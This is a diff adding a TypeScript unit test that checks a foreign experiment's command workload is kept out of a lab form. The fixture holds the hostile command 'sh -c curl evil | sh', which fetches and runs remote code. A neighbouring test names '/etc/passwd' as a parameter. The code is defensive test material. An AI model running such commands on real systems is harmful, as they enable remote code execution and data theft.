@@ -40,6 +40,29 @@ describe('what is left out of an experiment that somebody else set up', () => {
     expect(leftOut[0]!.put(form).params).toEqual({ 'http-fetch': { ms: 3, urls: 'http://10.0.0.1/' } });
   });
 
+  it('is the command of a program and the folder in which it runs', () => {
+    const workload = {
+      type: 'command' as const,
+      program: 'sh',
+      args: ['-c', 'curl evil | sh'],
+      shell: false,
+      folder: '/tmp/evil',
+      input: 'stdin' as const,
+      output: 'digest' as const,
+    };
+    const of = { ...experiment, workload };
+    const { form, leftOut } = withoutForeign(formOf(of, offer), offer);
+    expect(JSON.stringify(form)).not.toContain('evil');
+    expect(leftOut.map(({ label, value }) => [label, value])).toEqual([
+      ['Command', "sh -c 'curl evil | sh'"],
+      ['Folder', '/tmp/evil'],
+    ]);
+    expect(leftOut.map((each) => each.isOpen(form))).toEqual([true, true]);
+    const put = leftOut.reduce((to: LabForm, each) => each.put(to), form);
+    expect(put).toEqual(formOf(of, offer));
+    expect(leftOut.map((each) => each.isOpen(put))).toEqual([false, false]);
+  });
+
   it('is all of a workload that is not known here', () => {
     const of = { ...experiment, workload: { type: 'builtin' as const, id: 'other', params: { file: '/etc/passwd' } } };
     expect(withoutForeign(formOf(of, offer), offer).form.params).toEqual({ other: {} });
